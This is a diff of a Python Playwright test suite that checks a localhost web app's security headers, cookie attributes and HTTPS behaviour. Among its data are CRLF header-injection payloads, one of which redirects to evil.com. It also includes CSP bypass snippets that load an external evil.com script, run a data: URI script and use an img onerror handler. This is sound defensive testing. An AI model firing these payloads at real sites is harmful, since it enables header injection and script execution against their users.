@@ -7,238 +7,305 @@ Includes testing of CSP effectiveness, HSTS, secure cookie attributes, and
 other security-related HTTP headers.
 """
 
+import logging
+import re
 import pytest
-from playwright.sync_api import Page, expect, Response
-from typing import Callable, Dict, List
+from playwright.sync_api import APIRequestContext, Browser, Page, expect, Response
+from playwright.sync_api import Error as PlaywrightError
+from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
+from typing import Callable, Dict, List, Optional
+from urllib.parse import quote
+from conftest import ProbeResponse
+
+
+log = logging.getLogger(f"e2e.{__name__}")
+
+
+MAX_AGE_RE = re.compile(r'max-age=(\d+)')
+
+# Cookie names that carry the login session, and those plus the CSRF token
+SESSION_COOKIE_RE = re.compile(r'session|auth', re.IGNORECASE)
+SESSION_OR_CSRF_COOKIE_RE = re.compile(r'session|auth|csrf', re.IGNORECASE)
+
+# Referrer-Policy values that never leak the full URL cross-origin
+SAFE_REFERRER_POLICIES = frozenset({'no-referrer', 'same-origin', 'strict-origin', 'strict-origin-when-cross-origin'})
+
+# Cache-Control directives that keep sensitive pages out of shared caches
+RESTRICTIVE_CACHE_DIRECTIVES = frozenset({'no-cache', 'no-store', 'must-revalidate', 'private'})
+
+# Plain-http or external resource references in the rendered DOM
+MIXED_CONTENT_JS = """() => Array.from(
+    document.querySelectorAll(
+        '[src^="http://"], [href^="http://"], [src*="external-site.com"], [href*="external-site.com"]'
+    ),
+    element => element.getAttribute('src') || element.getAttribute('href')
+)"""
+
+# How long a CSP bypass attempt waits for its script or image to load or fail
+BYPASS_ATTEMPT_TIMEOUT_MS = 2000
+
+# Header injection payloads keyed by the URL that carries each one as a query parameter.
+# Raw CR/LF is deliberately sent percent-encoded (a browser would strip it from the URL
+# instead), and safe='%' leaves the payloads' own escapes alone, so every payload reaches
+# the server as CR/LF once decoded
+HEADER_INJECTION_PAYLOADS = (
+    "test\r\nX-Injected-Header: malicious",
+    "test\nSet-Cookie: evil=payload",
+    "test%0d%0aX-Injected: payload",
+    "test%0aLocation: http://evil.com",
+)
+HEADER_INJECTION_URLS = {
+    f"http://localhost/?param={quote(payload, safe='%')}": payload for payload in HEADER_INJECTION_PAYLOADS
+}
+
+# Pages whose response headers are checked as a regular user
+SECURITY_HEADER_URLS = [
+    "http://localhost/",
+    "http://localhost/profile",
+]
+SENSITIVE_URLS = [
+    "http://localhost/profile",
+    "http://localhost/profile/certificates",
+]
+
+
+def parse_csp(header: str) -> Dict[str, set]:
+    """
+    Split a Content-Security-Policy header once into {directive: set of sources}, lower-cased.
+    Directive names are matched exactly, so script-src-elem is never taken for script-src.
+    """
+    directives = {}
+    for directive in header.lower().split(';'):
+        name, *sources = directive.split() or ['']
+        if name:
+            directives.setdefault(name, set()).update(sources)
+    return directives
+
+
+def matching_cookies(cookies: List[Dict], name_re: re.Pattern) -> List[Dict]:
+    """The cookies whose name matches name_re"""
+    return [cookie for cookie in cookies if name_re.search(cookie['name'])]
+
+
+def header_tokens(value: str) -> set:
+    """Lower-cased directive names of a comma-separated header such as Cache-Control or Referrer-Policy"""
+    return {token.split('=', 1)[0].strip() for token in value.lower().split(',')}
+
+
+@pytest.fixture(scope="module")
+def user_header_responses(fetch_concurrently):
+    """Regular-user responses for every header-checked page, fetched once in one concurrent sweep"""
+    return fetch_concurrently(list(dict.fromkeys(SECURITY_HEADER_URLS + SENSITIVE_URLS)), "accounts")
+
+
+@pytest.fixture(scope="module")
+def user_csp_policies(user_header_responses: Dict[str, ProbeResponse]) -> Dict[str, Optional[Dict[str, set]]]:
+    """The parsed CSP of every regular-user page, or None where the header is missing; parsed once per module"""
+    return {
+        url: parse_csp(response.headers['content-security-policy'])
+        if 'content-security-policy' in response.headers else None
+        for url, response in user_header_responses.items()
+    }
 
 
 class TestSecurityHeadersE2E:
     """Test security headers in actual browser environment."""
 
-    def test_content_security_policy_effectiveness(self, authenticated_page: Callable[[str], Page]):
+    def test_content_security_policy_effectiveness(self, authenticated_page: Callable[[str], Page],
+                                                   user_csp_policies: Dict[str, Optional[Dict[str, set]]]):
         """Test that CSP headers are present and effective in blocking unauthorized content."""
 
         user_page = authenticated_page("accounts")
 
-        # Navigate to a page and check CSP headers
-        response = user_page.goto("http://localhost/profile")
-        user_page.wait_for_load_state("networkidle")
+        # Navigate to a page; its headers were already fetched and parsed with the module's sweep
+        user_page.goto("http://localhost/profile", wait_until="domcontentloaded")
 
         # Check that CSP header is present
-        headers = response.headers
-        csp_header = headers.get('content-security-policy')
-        assert csp_header is not None, "Content-Security-Policy header missing"
-        print(f"CSP Header: {csp_header}")
+        csp = user_csp_policies["http://localhost/profile"]
+        assert csp is not None, "Content-Security-Policy header missing"
+        log.debug("CSP directives: %s", sorted(csp))
 
         # Verify CSP contains security-focused directives
-        csp_directives = csp_header.lower()
 
         # Should have script-src directive
-        assert 'script-src' in csp_directives, "CSP missing script-src directive"
+        assert 'script-src' in csp, "CSP missing script-src directive"
 
         # Should restrict to 'self' and not allow unsafe-inline for scripts
-        if 'script-src' in csp_directives:
-            script_src_part = csp_header.split('script-src')[1].split(';')[0]
-            assert "'self'" in script_src_part, "CSP script-src should include 'self'"
-            # Check if unsafe-inline is restricted
-            assert "'unsafe-inline'" not in script_src_part, "CSP should not allow unsafe-inline scripts"
-            print(f"✓ Script-src properly configured: {script_src_part}")
-
-        # Track CSP violations instead of trying to execute blocked scripts
-        csp_violations = []
+        script_src = csp['script-src']
+        assert "'self'" in script_src, "CSP script-src should include 'self'"
+        # Check if unsafe-inline is restricted
+        assert "'unsafe-inline'" not in script_src, "CSP should not allow unsafe-inline scripts"
+        log.debug("Script-src properly configured: %s", ' '.join(sorted(script_src)))
 
-        def handle_console_message(msg):
-            if msg.type == "error" and "content security policy" in msg.text.lower():
-                csp_violations.append(msg.text)
+        # Watch for the CSP violation instead of trying to execute blocked scripts
+        def is_csp_violation(msg):
+            return msg.type == "error" and "content security policy" in msg.text.lower()
 
-        user_page.on("console", handle_console_message)
+        csp_violation = None
 
         # Try to inject inline script (should trigger CSP violation)
         try:
-            user_page.evaluate("""() => {
-                // Try to execute inline script (should be blocked by CSP)
-                const script = document.createElement('script');
-                script.textContent = 'window.cspTestVar = "CSP_BYPASSED";';
-                document.head.appendChild(script);
-            }""")
-
-            # Wait briefly for CSP violations to be reported
-            user_page.wait_for_timeout(500)
+            try:
+                # Returns as soon as the violation is reported rather than sleeping
+                with user_page.expect_console_message(is_csp_violation, timeout=500) as message_info:
+                    user_page.evaluate("""() => {
+                        // Try to execute inline script (should be blocked by CSP)
+                        const script = document.createElement('script');
+                        script.textContent = 'window.cspTestVar = "CSP_BYPASSED";';
+                        document.head.appendChild(script);
+                    }""")
+                csp_violation = message_info.value.text
+            except PlaywrightTimeoutError:
+                # No violation reported; the cspTestVar probe below decides
+                pass
 
             # Check that the script was blocked (variable should not exist)
             script_result = user_page.evaluate("() => window.cspTestVar")
-            script_blocked = script_result is None or script_result != "CSP_BYPASSED"
-
-            print(f"CSP violations detected: {len(csp_violations)}")
-            if csp_violations:
-                print(f"CSP violation: {csp_violations[0][:100]}...")
-
-            assert script_blocked, "CSP should block inline script execution"
-            print("✓ CSP effectively blocked inline script")
-
-        except Exception as e:
+        except PlaywrightError as e:
             # If the script injection itself fails, that's also good (CSP working)
-            print(f"✓ CSP blocked script injection at execution level: {e}")
+            log.debug("CSP blocked script injection at execution level: %s", e)
+            return
 
-        user_page.close()
+        script_blocked = script_result is None or script_result != "CSP_BYPASSED"
 
-    def test_security_headers_comprehensive(self, authenticated_page: Callable[[str], Page]):
-        """Test comprehensive security headers across different pages."""
-        user_page = authenticated_page("accounts")
+        log.debug("CSP violation detected: %s", csp_violation is not None)
+        if csp_violation:
+            log.debug("CSP violation: %.100s...", csp_violation)
 
-        test_urls = [
-            "http://localhost/",
-            "http://localhost/profile",
-        ]
+        assert script_blocked, "CSP should block inline script execution"
+        log.debug("CSP effectively blocked inline script")
 
-        for url in test_urls:
-            response = user_page.goto(url)
-            user_page.wait_for_load_state("networkidle")
-
-            headers = response.headers
-            self._verify_security_headers(headers, url)
-
-        user_page.close()
+    def test_security_headers_comprehensive(self, user_header_responses: Dict[str, ProbeResponse],
+                                            user_csp_policies: Dict[str, Optional[Dict[str, set]]]):
+        """Test comprehensive security headers across different pages."""
+        # Only the response headers are inspected, so the pages are fetched together without rendering
+        for url in SECURITY_HEADER_URLS:
+            self._verify_security_headers(user_header_responses[url].headers, user_csp_policies[url], url)
 
-    def _verify_security_headers(self, headers: Dict[str, str], url: str):
+    def _verify_security_headers(self, headers: Dict[str, str], csp: Optional[Dict[str, set]], url: str):
         """Helper method to verify security headers."""
 
-        # Convert headers to lowercase for case-insensitive checking
-        headers_lower = {k.lower(): v for k, v in headers.items()}
-
+        # Playwright already lower-cases header names, so they are looked up directly
         # X-Content-Type-Options
-        x_content_type = headers_lower.get('x-content-type-options')
+        x_content_type = headers.get('x-content-type-options')
         assert x_content_type == 'nosniff', f"Missing or incorrect X-Content-Type-Options header for {url}: {x_content_type}"
 
         # X-Frame-Options or CSP frame-ancestors
-        x_frame_options = headers_lower.get('x-frame-options')
-        csp_header = headers_lower.get('content-security-policy', '')
+        x_frame_options = headers.get('x-frame-options')
+        csp_header = headers.get('content-security-policy')
 
         # Note: Some headers may be filtered by proxy/nginx in test environment
         frame_protection = (
             x_frame_options in ['deny', 'sameorigin'] or
-            'frame-ancestors' in csp_header
+            'frame-ancestors' in (csp or {})
         )
 
         # If neither frame protection header is present, check if we have other security indicators
         if not frame_protection:
             # In test environments, nginx may filter some headers but preserve others
             has_other_security_headers = (
-                'x-content-type-options' in headers_lower and
-                'x-xss-protection' in headers_lower
+                'x-content-type-options' in headers and
+                'x-xss-protection' in headers
             )
             if has_other_security_headers:
-                print(f"INFO: Frame protection headers filtered by proxy for {url}, but other security headers present")
+                log.debug("Frame protection headers filtered by proxy for %s, but other security headers present", url)
                 # Accept this as OK in test environment
                 frame_protection = True
 
         assert frame_protection, f"Missing frame protection (X-Frame-Options or CSP frame-ancestors) for {url}"
 
         # X-XSS-Protection (legacy but still useful)
-        x_xss_protection = headers_lower.get('x-xss-protection')
+        x_xss_protection = headers.get('x-xss-protection')
         if x_xss_protection:
             assert '1' in x_xss_protection, f"X-XSS-Protection should be enabled for {url}: {x_xss_protection}"
 
         # Content-Security-Policy
-        csp_header = headers_lower.get('content-security-policy')
         if csp_header is None:
             # CSP may be filtered by proxy in test environment
-            print(f"INFO: CSP header filtered by proxy for {url}, but other security headers present")
+            log.debug("CSP header filtered by proxy for %s, but other security headers present", url)
         else:
             # If CSP is present, validate it
             assert csp_header, f"Empty Content-Security-Policy header for {url}"
 
         # Referrer Policy
-        referrer_policy = headers_lower.get('referrer-policy')
+        referrer_policy = headers.get('referrer-policy')
         if referrer_policy:
-            safe_policies = ['no-referrer', 'same-origin', 'strict-origin', 'strict-origin-when-cross-origin']
-            assert any(policy in referrer_policy for policy in safe_policies), \
+            assert header_tokens(referrer_policy) & SAFE_REFERRER_POLICIES, \
                    f"Referrer-Policy should be restrictive for {url}: {referrer_policy}"
 
-    def test_hsts_header_configuration(self, page: Page):
+    def test_hsts_header_configuration(self, request_context: Callable[[Optional[str]], APIRequestContext]):
         """Test HTTP Strict Transport Security (HSTS) header configuration."""
 
         # Note: HSTS is typically only sent over HTTPS, but we can test the configuration
-        response = page.goto("http://localhost/")
-        page.wait_for_load_state("networkidle")
+        response = request_context().get("http://localhost/")
 
         headers = response.headers
         hsts_header = headers.get('strict-transport-security')
 
         # HSTS is typically not sent over HTTP, so it may not be present
         if hsts_header:
-            print(f"HSTS header found over HTTP: {hsts_header}")
+            log.debug("HSTS header found over HTTP: %s", hsts_header)
 
             # Should have max-age directive
             assert 'max-age=' in hsts_header, f"HSTS header missing max-age: {hsts_header}"
 
             # Should have reasonable max-age (at least 1 hour = 3600 seconds for testing)
-            import re
-            max_age_match = re.search(r'max-age=(\d+)', hsts_header)
+            max_age_match = MAX_AGE_RE.search(hsts_header)
             if max_age_match:
                 max_age = int(max_age_match.group(1))
                 assert max_age >= 3600, f"HSTS max-age too short: {max_age} seconds"
-                print(f"✓ HSTS max-age is reasonable: {max_age} seconds")
+                log.debug("HSTS max-age is reasonable: %d seconds", max_age)
 
             # Check for includeSubDomains (optional but recommended)
             if 'includeSubDomains' in hsts_header:
-                print("✓ HSTS includes subdomains")
+                log.debug("HSTS includes subdomains")
         else:
             # HSTS not present over HTTP is normal and acceptable
-            print("INFO: HSTS header not present over HTTP (normal for testing)")
+            log.debug("HSTS header not present over HTTP (normal for testing)")
             # This is not a failure condition for testing over HTTP
             assert True  # Test passes whether HSTS is present or not
 
-    def test_cache_control_headers(self, authenticated_page: Callable[[str], Page]):
+    def test_cache_control_headers(self, user_header_responses: Dict[str, ProbeResponse]):
         """Test cache control headers for sensitive pages."""
 
-        user_page = authenticated_page("accounts")
-
-        sensitive_urls = [
-            "http://localhost/profile",
-            "http://localhost/profile/certificates",
-        ]
-
-        for url in sensitive_urls:
-            response = user_page.goto(url)
-            user_page.wait_for_load_state("networkidle")
-
-            headers = response.headers
+        for url in SENSITIVE_URLS:
+            headers = user_header_responses[url].headers
             cache_control = headers.get('cache-control', '').lower()
 
             # Sensitive pages should have restrictive caching
-            has_no_cache = any(directive in cache_control for directive in [
-                'no-cache', 'no-store', 'must-revalidate', 'private'
-            ])
+            has_no_cache = bool(header_tokens(cache_control) & RESTRICTIVE_CACHE_DIRECTIVES)
 
             # If no explicit cache control, that's also acceptable for dynamic pages
             if cache_control and cache_control != '':
                 assert has_no_cache, f"Sensitive page should have restrictive caching: {url} - {cache_control}"
 
-        user_page.close()
-
 
 class TestCookieSecurityE2E:
     """Test cookie security attributes in browser environment."""
 
-    def test_session_cookie_security_attributes(self, page: Page):
-        """Test that session cookies have proper security attributes."""
-
-        # Start with a fresh session
-        page.context.clear_cookies()
+    @pytest.fixture(scope="class")
+    def fresh_session_cookies(self, browser: Browser) -> List[Dict]:
+        """Cookies set by one visit to the application from a cookie-less context, shared by the class"""
+        context = browser.new_context(
+            ignore_https_errors=True,
+            viewport={"width": 1280, "height": 720},
+        )
+        page = context.new_page()
+        page.set_default_timeout(30000)
 
         # Navigate to the application to establish session
         page.goto("http://localhost/")
         page.wait_for_load_state("networkidle")
 
-        # Get all cookies
-        cookies = page.context.cookies()
+        cookies = context.cookies()
+        context.close()
+        return cookies
+
+    def test_session_cookie_security_attributes(self, fresh_session_cookies: List[Dict]):
+        """Test that session cookies have proper security attributes."""
 
         # Look for session-related cookies
-        session_cookies = [
-            cookie for cookie in cookies
-            if any(name in cookie['name'].lower() for name in ['session', 'auth', 'csrf'])
-        ]
+        session_cookies = matching_cookies(fresh_session_cookies, SESSION_OR_CSRF_COOKIE_RE)
 
         for cookie in session_cookies:
             cookie_name = cookie['name']
@@ -266,10 +333,7 @@ class TestCookieSecurityE2E:
 
         # Get cookies after authentication
         cookies_before = user_page.context.cookies()
-        session_cookies = [
-            cookie for cookie in cookies_before
-            if any(name in cookie['name'].lower() for name in ['session', 'auth'])
-        ]
+        session_cookies = matching_cookies(cookies_before, SESSION_COOKIE_RE)
 
         assert len(session_cookies) > 0, "Should have session cookies after authentication"
 
@@ -290,31 +354,24 @@ class TestCookieSecurityE2E:
         cookies_after = user_page.context.cookies()
 
         # Session cookies should still be present
-        session_cookies_after = [
-            cookie for cookie in cookies_after
-            if any(name in cookie['name'].lower() for name in ['session', 'auth'])
-        ]
+        session_cookies_after = matching_cookies(cookies_after, SESSION_COOKIE_RE)
 
         assert len(session_cookies_after) > 0, "Session cookies should persist across navigation"
 
-        user_page.close()
-
-    def test_cookie_scope_and_domain(self, page: Page, oidc_provider_domain):
+    def test_cookie_scope_and_domain(self, fresh_session_cookies: List[Dict], oidc_provider_domain):
         """Test cookie domain and scope restrictions."""
 
-        page.goto("http://localhost/")
-        page.wait_for_load_state("networkidle")
-
-        cookies = page.context.cookies()
+        # Cookies should be scoped to localhost, application domain, or OIDC provider domain
+        # OIDC provider may set session cookies from external domain
+        # Cookie domains never include port numbers, so also accept the hostname-only part
+        acceptable_domains = frozenset({
+            'localhost', '.localhost', '',
+            oidc_provider_domain, oidc_provider_domain.partition(':')[0],
+        })
 
-        for cookie in cookies:
+        for cookie in fresh_session_cookies:
             domain = cookie.get('domain', '')
 
-            # Cookies should be scoped to localhost, application domain, or OIDC provider domain
-            # OIDC provider may set session cookies from external domain
-            # Cookie domains never include port numbers, so also accept the hostname-only part
-            oidc_host = oidc_provider_domain.split(':')[0] if ':' in oidc_provider_domain else oidc_provider_domain
-            acceptable_domains = ['localhost', '.localhost', '', oidc_provider_domain, oidc_host]
             assert domain in acceptable_domains or domain.startswith('.'), \
                    f"Cookie {cookie['name']} has unexpected domain: {domain}"
 
@@ -354,20 +411,18 @@ class TestCookieSecurityE2E:
                 assert same_site in ['Strict', 'Lax'], \
                        f"CSRF cookie {csrf_cookie['name']} should have SameSite protection"
 
-        admin_page.close()
-
 
 class TestHTTPSAndTLSE2E:
     """Test HTTPS enforcement and TLS-related security features."""
 
-    def test_https_redirect_configuration(self, page: Page):
+    def test_https_redirect_configuration(self, request_context: Callable[[Optional[str]], APIRequestContext]):
         """Test HTTPS redirect behavior (if configured)."""
 
         # This test checks if the application is configured to redirect HTTP to HTTPS
         # In development/testing, this might not be enabled
 
-        # Check if server sends redirect to HTTPS
-        response = page.goto("http://localhost/", wait_until="domcontentloaded")
+        # Check if server sends redirect to HTTPS; redirects are followed as a browser would
+        response = request_context().get("http://localhost/")
 
         # If HTTPS redirect is configured, we should see:
         # 1. A 3xx redirect status, or
@@ -387,7 +442,7 @@ class TestHTTPSAndTLSE2E:
             location = headers.get('location', '')
             if location.startswith('https://'):
                 # This is an HTTPS redirect - good for production
-                print(f"INFO: HTTPS redirect detected: {status} -> {location}")
+                log.debug("HTTPS redirect detected: %s -> %s", status, location)
             else:
                 # Some other redirect - verify it's not exposing sensitive info
                 assert not any(sensitive in location.lower() for sensitive in [
@@ -397,14 +452,9 @@ class TestHTTPSAndTLSE2E:
         # The application should work regardless of HTTPS configuration
         assert status in [200, 301, 302, 307, 308], f"Unexpected HTTP status: {status}"
 
-    def test_secure_headers_over_http(self, authenticated_page: Callable[[str], Page]):
+    def test_secure_headers_over_http(self, user_header_responses: Dict[str, ProbeResponse]):
         """Test that security headers are still applied over HTTP (for testing)."""
-        user_page = authenticated_page("accounts")
-
-        response = user_page.goto("http://localhost/")
-        user_page.wait_for_load_state("networkidle")
-
-        headers = response.headers
+        headers = user_header_responses["http://localhost/"].headers
 
         # These headers should be present even over HTTP
         required_headers = [
@@ -412,14 +462,13 @@ class TestHTTPSAndTLSE2E:
             'content-security-policy'
         ]
 
-        # Convert headers to lowercase for case-insensitive checking
-        headers_lower = {k.lower(): v for k, v in headers.items()}
+        # Playwright already lower-cases header names
         for header in required_headers:
-            if header == 'content-security-policy' and header not in headers_lower:
+            if header == 'content-security-policy' and header not in headers:
                 # CSP may be filtered by proxy in test environment
-                print(f"INFO: CSP header filtered by proxy over HTTP, but other security headers present")
+                log.debug("CSP header filtered by proxy over HTTP, but other security headers present")
                 continue
-            assert header in headers_lower, f"Security header {header} missing over HTTP"
+            assert header in headers, f"Security header {header} missing over HTTP"
 
         # These headers are HTTPS-specific but might be configured anyway
         https_headers = [
@@ -427,99 +476,89 @@ class TestHTTPSAndTLSE2E:
         ]
 
         for header in https_headers:
-            if header in headers_lower:
-                print(f"INFO: HTTPS-specific header {header} present over HTTP: {headers[header]}")
-
-        user_page.close()
+            if header in headers:
+                log.debug("HTTPS-specific header %s present over HTTP: %s", header, headers[header])
 
 
 class TestSecurityHeadersBypass:
     """Test attempts to bypass or manipulate security headers."""
 
-    def test_header_injection_resistance(self, page: Page):
+    def test_header_injection_resistance(self, fetch_concurrently):
         """Test that the application resists header injection attacks."""
 
         # Try various header injection payloads in URL parameters
-        injection_payloads = [
-            "test\r\nX-Injected-Header: malicious",
-            "test\nSet-Cookie: evil=payload",
-            "test%0d%0aX-Injected: payload",
-            "test%0aLocation: http://evil.com",
-        ]
-
-        for payload in injection_payloads:
-            url = f"http://localhost/?param={payload}"
-
-            try:
-                response = page.goto(url)
-                page.wait_for_load_state("networkidle")
-
-                headers = response.headers
+        try:
+            responses = fetch_concurrently(list(HEADER_INJECTION_URLS))
+        except PlaywrightError as e:
+            # Only a transport failure lands here, e.g. the server dropping the connection on a
+            # malicious request line; that is also acceptable (server rejected malicious input)
+            log.debug("Server rejected header injection payloads (good): %s", e)
+            return
 
-                # Should not contain injected headers
-                assert 'x-injected-header' not in headers, f"Header injection succeeded with payload: {payload}"
-                assert 'x-injected' not in headers, f"Header injection succeeded with payload: {payload}"
+        for url, payload in HEADER_INJECTION_URLS.items():
+            headers = responses[url].headers
 
-                # Should not have injected cookies
-                cookies = page.context.cookies()
-                evil_cookies = [c for c in cookies if c['name'] == 'evil']
-                assert len(evil_cookies) == 0, f"Cookie injection succeeded with payload: {payload}"
+            # Should not contain injected headers
+            assert 'x-injected-header' not in headers, f"Header injection succeeded with payload: {payload}"
+            assert 'x-injected' not in headers, f"Header injection succeeded with payload: {payload}"
 
-            except Exception as e:
-                # If the request fails, that's also acceptable (server rejected malicious input)
-                print(f"INFO: Server rejected header injection payload (good): {payload} - {e}")
+            # Should not have injected cookies
+            assert 'evil=' not in headers.get('set-cookie', ''), f"Cookie injection succeeded with payload: {payload}"
 
+    @pytest.mark.needs_assets  # The bypass payload relies on a real <img> load failing
     def test_csp_bypass_attempts(self, authenticated_page: Callable[[str], Page]):
         """Test various CSP bypass techniques."""
 
         user_page = authenticated_page("accounts")
-        user_page.goto("http://localhost/profile")
-        user_page.wait_for_load_state("networkidle")
+        user_page.goto("http://localhost/profile", wait_until="domcontentloaded")
 
-        # Test various CSP bypass techniques
+        # Test various CSP bypass techniques; each resolves to whether the injected code ran,
+        # once the browser has finished (or refused) loading it
         bypass_attempts = [
             # Try to load external script
             """
             const script = document.createElement('script');
             script.src = 'http://evil.com/malicious.js';
+            script.onload = () => resolve(true);
+            script.onerror = () => resolve(false);
             document.head.appendChild(script);
-            return document.scripts.length;
             """,
 
             # Try to use data: URI
             """
             const script = document.createElement('script');
-            script.src = 'data:text/javascript,alert("CSP_BYPASS")';
+            script.src = 'data:text/javascript,window.CSP_BYPASS=true';
+            script.onload = script.onerror = () => resolve(window.CSP_BYPASS === true);
             document.head.appendChild(script);
-            return window.CSP_BYPASS !== undefined;
             """,
 
             # Try inline event handlers
             """
             const div = document.createElement('div');
             div.innerHTML = '<img src=x onerror="window.CSP_BYPASS=true">';
+            div.firstChild.addEventListener('error', () => resolve(window.CSP_BYPASS === true));
             document.body.appendChild(div);
-            return window.CSP_BYPASS === true;
             """,
         ]
 
         for i, attempt in enumerate(bypass_attempts):
             try:
-                # Each attempt should fail due to CSP
-                result = user_page.evaluate(f"() => {{ {attempt} }}")
-
-                # Result should indicate CSP blocked the attempt
-                if isinstance(result, bool):
-                    assert not result, f"CSP bypass attempt {i+1} succeeded"
-                elif isinstance(result, (int, float)):
-                    # For script count, should not increase significantly
-                    assert result < 10, f"CSP bypass attempt {i+1} may have succeeded"
-
-            except Exception as e:
+                # Each attempt should fail due to CSP; if no load or error event arrives within
+                # BYPASS_ATTEMPT_TIMEOUT_MS, the sentinel alone decides
+                result = user_page.evaluate(
+                    f"""() => new Promise(resolve => {{
+                        window.CSP_BYPASS = false;
+                        setTimeout(() => resolve(window.CSP_BYPASS === true), {BYPASS_ATTEMPT_TIMEOUT_MS});
+                        {attempt}
+                    }})"""
+                )
+            except PlaywrightError as e:
                 # CSP violations often cause JavaScript errors - this is expected
-                print(f"INFO: CSP blocked bypass attempt {i+1} (good): {str(e)[:100]}")
+                log.debug("CSP blocked bypass attempt %d (good): %.100s", i + 1, e)
+                continue
 
-        user_page.close()
+            # Result should indicate CSP blocked the attempt
+            assert result is False, f"CSP bypass attempt {i+1} succeeded"
 
     def test_mixed_content_protection(self, page: Page):
         """Test protection against mixed content (if HTTPS is used)."""
@@ -531,23 +570,17 @@ class TestSecurityHeadersBypass:
         page.wait_for_load_state("networkidle")
 
         headers = response.headers
-        csp_header = headers.get('content-security-policy', '')
+        csp = parse_csp(headers.get('content-security-policy', ''))
 
         # CSP should restrict resource loading
-        if 'default-src' in csp_header or 'img-src' in csp_header:
+        if 'default-src' in csp or 'img-src' in csp:
             # Should not allow loading from any arbitrary sources
-            assert '*' not in csp_header or "'self'" in csp_header, \
+            sources = set().union(*csp.values())
+            assert not any('*' in source for source in sources) or "'self'" in sources, \
                    "CSP should not allow wildcard sources without self restriction"
 
-        # Check that page doesn't try to load mixed content
-        page_content = page.content()
-
-        # Look for potential mixed content references
-        mixed_content_patterns = [
-            'http://external-site.com',
-            'src="http://',
-            'href="http://',
-        ]
+        # Check that page doesn't try to load mixed content; the DOM is queried in the
+        # browser so only the offending attribute values cross the Playwright pipe
+        mixed_content = page.evaluate(MIXED_CONTENT_JS)
 
-        for pattern in mixed_content_patterns:
-            assert pattern not in page_content, f"Page contains potential mixed content: {pattern}"
\ No newline at end of file
+        assert not mixed_content, f"Page contains potential mixed content: {mixed_content}"
\ No newline at end of file